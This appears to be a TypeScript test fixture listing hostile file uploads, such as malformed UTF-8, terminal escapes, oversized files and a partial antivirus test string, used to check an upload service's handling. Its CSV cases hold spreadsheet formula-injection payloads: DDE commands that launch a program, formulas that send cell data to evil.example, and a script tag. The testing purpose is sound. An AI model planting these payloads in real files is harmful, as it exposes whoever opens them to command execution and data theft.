// Words that are no words, tables that calculate, and files of every awkward size.
import { SIZES } from "@homeroom/protocol/kit/sizes.ts";
import {
  filled,
  harmless,
  hex,
  hostile,
  type HostileFile,
  join,
  noise,
  onlyWords,
  raw,
  refused,
  served,
  utf8,
  zeros,
} from "./bytes.ts";
import { PNG } from "./pictures.ts";

const asText = ["a.txt", "text/plain"] as const;
const asTable = ["a.csv", "text/csv"] as const;
const LIMIT = SIZES.upload_bytes;
const isWords = served("text/plain", "text/csv");
const kept = served("text/plain");

const formulas = [
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=HYPERLINK("https://evil.example/?x="&A1,"click")`,
  `=WEBSERVICE("https://evil.example/")`,
  `=IMPORTXML("https://evil.example/","//a")`,
  `\t=1+1`,
];

const words: readonly HostileFile[] = [
  hostile("words with a NUL", asText, raw("words\0and more words"), onlyWords),
  hostile("words with many NULs", asText, join("words", zeros(4_000), "words"), onlyWords),
  hostile("only NULs", asText, zeros(5_000), onlyWords),
  hostile(
    "a NUL after a megabyte of words",
    asText,
    () => join(...filled(1_048_576, utf8("words ")), zeros(1)),
    onlyWords,
  ),
  hostile(
    "noise after a megabyte of words",
    asText,
    () => join(...filled(1_048_576, utf8("words ")), noise(5_000)),
    onlyWords,
  ),
  hostile(
    "a program after 64 KB of words",
    asText,
    () => join(...filled(65_536, utf8("words ")), raw("MZ\x90\0"), noise(900)),
    onlyWords,
  ),
  hostile("words that are no UTF-8", asText, raw("Gr\xfc\xdfe aus M\xfcnchen"), onlyWords),
  hostile("UTF-8 that breaks off", asText, raw("words \xe2\x82"), onlyWords),
  hostile("UTF-8 that is longer than it need be", asText, raw("\xc0\xbcscript\xc0\xbe"), onlyWords),
  hostile("halves of signs", asText, raw("words \xed\xa0\x80 words"), onlyWords),
  hostile("signs beyond the last", asText, raw("words \xf5\x80\x80\x80"), onlyWords),
  hostile("signs that move the cursor", asText, raw("\x1b[2J\x1b]0;pwned\x07\x1b[31mred\x9b"), onlyWords),
  hostile("backspaces", asText, raw("good\b\b\b\bevil"), onlyWords),
  hostile("only a mark of byte order", asText, hex("efbbbf"), onlyWords),
  hostile("marks of direction", asText, utf8("\u202eevil\u2066\u2067".repeat(2_000)), kept),
  hostile("one line of five megabytes", asText, () => filled(5_242_880, utf8("x"), "x"), kept),
  hostile("five million lines", asText, () => filled(5_242_880, utf8("x"), "\n"), kept),
  hostile("what a scanner is tried with, in part", asText, raw(String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}`), kept),
  ...formulas.map((formula, n) =>
    hostile(`a table with formula ${n + 1}`, asTable, `name,mark\n"${formula.replaceAll('"', '""')}",1\n`, isWords),
  ),
  hostile("a table with a page", asTable, `a,b\n<script>window.__pwned=1</script>,2\n`, onlyWords),
  hostile("a table of one column of a hundred thousand", asTable, `${",".repeat(100_000)}\n`, isWords),
  hostile("a table with an open quote", asTable, `a,b\n"${"x\n".repeat(5_000)}`, isWords),
  hostile("a table that names its separator", asTable, `sep=;\n=1+1;2\n`, isWords),
];

const sizes: readonly HostileFile[] = [
  hostile("no byte", asText, new Uint8Array(), refused(400, 415, 422)),
  hostile("no byte, as a program", ["a.exe", "application/octet-stream"], new Uint8Array(), refused(400, 415, 422)),
  hostile("one byte of words", asText, "x", kept),
  hostile("one NUL", asText, zeros(1), onlyWords),
  hostile("one byte that is no word", ["a.png", "image/png"], hex("ff"), onlyWords),
  hostile("words just as large as is allowed", asText, () => filled(LIMIT, utf8("words ")), kept),
  hostile("words one byte too large", asText, () => filled(LIMIT + 1, utf8("words ")), refused(413)),
  hostile("words twice too large", asText, () => filled(LIMIT * 2, utf8("words ")), refused(413)),
  hostile(
    "an archive just as large as is allowed",
    ["a.zip", "application/zip"],
    () => filled(LIMIT, hex("504b0506 0000 0000 0000 0000 00000000 00000000 0000"), "\0"),
    harmless("application/zip"),
  ),
  hostile(
    "a picture just as large as is allowed",
    ["a.png", "image/png"],
    () => filled(LIMIT, PNG, "\0"),
    harmless("image/png", "image/webp"),
  ),
  hostile("a picture one byte too large", ["a.png", "image/png"], () => filled(LIMIT + 1, PNG, "\0"), refused(413)),
  hostile(
    "a program too large",
    ["a.exe", "application/octet-stream"],
    () => filled(LIMIT + 1, raw("MZ"), "\0"),
    refused(413, 415),
  ),
  hostile(
    "a voice message too large",
    ["a.webm", "audio/webm"],
    () => filled(LIMIT + 1, join(hex("1a45dfa3 9f 4282 84"), "webm"), "\0"),
    refused(413),
  ),
];

export const texts: readonly HostileFile[] = [...words, ...sizes];
